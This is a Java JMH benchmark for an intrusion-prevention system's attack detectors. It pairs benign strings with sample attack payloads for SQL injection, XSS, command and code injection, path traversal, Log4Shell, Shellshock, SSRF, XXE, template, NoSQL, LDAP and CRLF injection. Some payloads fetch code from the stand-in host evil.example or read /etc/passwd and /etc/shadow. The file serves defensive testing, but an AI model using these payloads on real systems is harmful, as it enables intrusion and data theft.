package ips.bench.payload;

import ips.core.payload.Judge;
import ips.core.payload.Judgement;
import ips.core.payload.PartKind;
import ips.core.payload.html.XssJudge;
import ips.core.payload.probe.CodeJudge;
import ips.core.payload.probe.CommandJudge;
import ips.core.payload.probe.HeaderJudge;
import ips.core.payload.probe.LdapJudge;
import ips.core.payload.probe.LookupJudge;
import ips.core.payload.probe.NoSqlJudge;
import ips.core.payload.probe.ScannerJudge;
import ips.core.payload.probe.ShellshockJudge;
import ips.core.payload.probe.SsrfJudge;
import ips.core.payload.probe.TemplateJudge;
import ips.core.payload.probe.TraversalJudge;
import ips.core.payload.probe.XxeJudge;
import ips.core.payload.sql.SqlJudge;
import ips.core.payload.text.Normalizer;
import ips.core.payload.text.Text;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OperationsPerInvocation;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.TearDown;
import org.openjdk.jmh.annotations.Warmup;

/**
 * What does each judge cost for a value that it is asked about: an attack, or an honest value that
 * holds something the judge has to look at? Values are normalised beforehand, in turns of four, so
 * that branches are not learnt by heart; time is for one value. An iteration fails in which an
 * attack was not found or an honest value accused.
 *
 * <p>Run: {@code java -jar ips-bench/target/ips-bench.jar JudgeBenchmark -prof gc}.
 */
@State(Scope.Thread)
@BenchmarkMode(Mode.AverageTime)
@OutputTimeUnit(TimeUnit.NANOSECONDS)
@Fork(1)
@Warmup(iterations = 3, time = 1)
@Measurement(iterations = 3, time = 1)
public class JudgeBenchmark {
    private static final int VALUES = 4;
    private static final int CAPACITY = 1024;

    /** The threshold of the balanced preset. */
    private static final int ATTACK = 80;

    @Param({
        "sqli",
        "xss",
        "command",
        "code",
        "traversal",
        "log4shell",
        "shellshock",
        "ssrf",
        "xxe",
        "ssti",
        "nosqli",
        "ldapi",
        "crlf",
        "scanner"
    })
    public String judge;

    @Param({"honest", "attack"})
    public String value;

    private final Judgement judgement = new Judgement();
    private final Text[] texts = new Text[VALUES];
    private final int[] scores = new int[VALUES];
    private Judge judging;
    private PartKind part;

    @Setup
    public void prepare() {
        judging = judge(judge);
        part = part(judge);
        String[] values = value.equals("attack") ? attacks(judge) : honest(judge);
        for (int i = 0; i < VALUES; i++) {
            Normalizer normalizer = new Normalizer(CAPACITY); // a text is valid until its next
            byte[] bytes = values[i].getBytes(StandardCharsets.UTF_8);
            System.arraycopy(bytes, 0, normalizer.raw(), 0, bytes.length);
            texts[i] = normalizer.normalize(bytes.length, part.formEncoded());
        }
    }

    @Benchmark
    @OperationsPerInvocation(VALUES)
    public int judge() {
        int sum = 0;
        for (int i = 0; i < VALUES; i++) {
            judgement.clear();
            judging.judge(texts[i], part, judgement);
            scores[i] = judgement.score();
            sum += scores[i];
        }
        return sum;
    }

    /** A judge that errs is not the one to be measured. */
    @TearDown(Level.Iteration)
    public void check() {
        for (int i = 0; i < VALUES; i++) {
            if (scores[i] >= ATTACK != value.equals("attack")) {
                throw new IllegalStateException(
                        judge + ", " + value + " value " + i + " scored " + scores[i]);
            }
        }
    }

    private static Judge judge(String name) {
        return switch (name) {
            case "sqli" -> new SqlJudge(CAPACITY);
            case "xss" -> new XssJudge();
            case "command" -> new CommandJudge(CAPACITY);
            case "code" -> new CodeJudge();
            case "traversal" -> new TraversalJudge(CAPACITY);
            case "log4shell" -> new LookupJudge(CAPACITY);
            case "shellshock" -> new ShellshockJudge();
            case "ssrf" -> new SsrfJudge();
            case "xxe" -> new XxeJudge();
            case "ssti" -> new TemplateJudge();
            case "nosqli" -> new NoSqlJudge();
            case "ldapi" -> new LdapJudge();
            case "crlf" -> new HeaderJudge();
            case "scanner" -> new ScannerJudge();
            default -> throw new IllegalStateException(name);
        };
    }

    private static PartKind part(String name) {
        return switch (name) {
            case "scanner" -> PartKind.USER_AGENT;
            case "xxe" -> PartKind.XML_PROLOG;
            case "shellshock" -> PartKind.HEADER;
            default -> PartKind.QUERY;
        };
    }

    private static String[] attacks(String name) {
        return switch (name) {
            case "sqli" ->
                    values(
                            "1' UNION SELECT 1,version(),3-- -",
                            "1) AND 5=5 AND (1=1",
                            "x'; WAITFOR DELAY '0:0:5'--",
                            "admin'/**/OR/**/'a'='a");
            case "xss" ->
                    values(
                            "\"><img src=x onerror=alert(1)>",
                            "<script>alert(document.cookie)</script>",
                            "<a href=\"javascript:alert(1)\">x</a>",
                            "<svg/onload=prompt(1)>");
            case "command" ->
                    values(
                            "127.0.0.1; cat /etc/passwd",
                            "x | wget http://evil.example/a.sh -O /tmp/a",
                            "$(curl http://evil.example/x)",
                            "a`id`");
            case "code" ->
                    values(
                            "<?php system($_GET['c']); ?>",
                            "__import__('os').system('id')",
                            "require('child_process').exec('id')",
                            "Runtime.getRuntime().exec(\"id\")");
            case "traversal" ->
                    values(
                            "../../../../etc/passwd",
                            "..\\..\\..\\windows\\win.ini",
                            "php://filter/convert.base64-encode/resource=index.php",
                            "/var/www/../../etc/shadow");
            case "log4shell" ->
                    values(
                            "${jndi:ldap://evil.example/a}",
                            "${${lower:j}ndi:rmi://evil.example/a}",
                            "${${::-j}${::-n}${::-d}${::-i}:dns://evil.example/a}",
                            "${jndi:${lower:l}dap://evil.example/x}");
            case "shellshock" ->
                    values(
                            "() { :;}; /bin/bash -c 'id'",
                            "() { :; }; echo vulnerable",
                            "() { _; } >_[$($())] { id; }",
                            "() { :;};wget http://evil.example/a");
            case "ssrf" ->
                    values(
                            "http://169.254.169.254/latest/meta-data/iam/",
                            "http://2852039166/latest/meta-data/",
                            "http://metadata.google.internal/computeMetadata/v1/",
                            "gopher://127.0.0.1:6379/_FLUSHALL");
            case "xxe" ->
                    values(
                            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
                            "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>",
                            "<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY x SYSTEM \"expect://id\">]>",
                            "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\" [<!ENTITY b SYSTEM 'file:///c:/boot.ini'>]>");
            case "ssti" ->
                    values(
                            "{{7*7}}",
                            "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
                            "${T(java.lang.Runtime).getRuntime().exec('id')}",
                            "<%= 7*7 %>");
            case "nosqli" ->
                    values(
                            "{\"$ne\": null}",
                            "';return true;var a='",
                            "{\"$where\": \"sleep(5000)\"}",
                            "{\"$gt\": \"\"}");
            case "ldapi" ->
                    values(
                            "*)(uid=*))(|(uid=*",
                            "admin)(&(password=*))",
                            "*)(objectClass=*",
                            "x)(|(password=*)");
            case "crlf" ->
                    values(
                            "x%0d%0aSet-Cookie:%20a=b",
                            "/a%0d%0aLocation:%20http://evil.example/",
                            "%0d%0a%0d%0a<script>alert(1)</script>",
                            "y%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK");
            case "scanner" ->
                    values(
                            "sqlmap/1.7.2#stable (https://sqlmap.org)",
                            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
                            "Fuzz Faster U Fool v1.5.0 ffuf/1.5.0",
                            "gobuster/3.1.0");
            default -> throw new IllegalStateException(name);
        };
    }

    private static String[] honest(String name) {
        return switch (name) {
            case "sqli" ->
                    values(
                            "the cat and the dog select a place to sleep, don't they?",
                            "O'Brien & Sons (since 1921)",
                            "Drop us a line, or order by phone -- we're here from 9 to 5",
                            "union of select committees where 5 or more members vote");
            case "xss" ->
                    values(
                            "if (a < b) then call f(x)",
                            "<b>bold</b> and <a href=\"https://www.example.org/\">a link</a>",
                            "1 < 2 and 3 > 2 (as they say)",
                            "the script of the play, onset at noon = late");
            case "command" ->
                    values(
                            "Tom; Dick; and Harry",
                            "costs $5 | ships today",
                            "first line\nsecond line; find it at the shop",
                            "salt & pepper, cat & mouse");
            case "code" ->
                    values(
                            "the system required (import duties) to be paid",
                            "how do I eval( an expression in my head?",
                            "the constructor was built in 1990",
                            "process the environment report");
            case "traversal" ->
                    values(
                            "../images/logo.png",
                            "C:\\Users\\Anna\\Pictures\\beach.jpg",
                            "see https://www.example.org/docs/etc/index.html",
                            "dots... and more dots... / slashes");
            case "log4shell" ->
                    values(
                            "Dear ${name}, your order ${order} is on its way",
                            "it costs $5",
                            "${lower:abc} is a lookup",
                            "US$ 30 {net}");
            case "shellshock" ->
                    values(
                            "function() { return 1; }",
                            "() => { return 1; }",
                            "a set {1, 2} and a call f()",
                            "{}");
            case "ssrf" ->
                    values(
                            "https://www.example.org/shop?id=12&ref=home",
                            "http://cdn.example.net:8080/a/b.js",
                            "visit http://example.com/ or ftp://ftp.example.com/pub",
                            "[http://www.example.org] is our site");
            case "xxe" ->
                    values(
                            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
                            "<!DOCTYPE html>",
                            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\""
                                    + " \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
                            "<?xml version=\"1.0\"?><!-- an order, see include --><?style x?>");
            case "ssti" ->
                    values(
                            "Hello {{name}}, welcome",
                            "{{#if user}}{{user.name}}{{/if}}",
                            "${first} ${last}",
                            "a {set} of {braces} and 50%");
            case "nosqli" ->
                    values(
                            "it costs $5 in return",
                            "{\"name\": \"Anna\", \"$ref\": \"#/a\"}",
                            "return the item within 30 days",
                            "US$ 30");
            case "ldapi" ->
                    values(
                            "f(x)(y) and (a|b)",
                            "(see note) (and the other)",
                            "smile :) (or not)",
                            "5*(3+2)=25");
            case "crlf" ->
                    values(
                            "first line%0d%0asecond line",
                            "Dear Sir:%0d%0aI write to you",
                            "a%0ab%0ac",
                            "Name: Anna%0d%0aTown: Bern");
            case "scanner" ->
                    values(
                            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
                            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML,"
                                    + " like Gecko) Chrome/126.0.0.0 Safari/537.36",
                            "curl/8.5.0",
                            "Mozilla/5.0 (compatible; Googlebot/2.1;"
                                    + " +http://www.google.com/bot.html)");
            default -> throw new IllegalStateException(name);
        };
    }

    private static String[] values(String... values) {
        return values;
    }
}
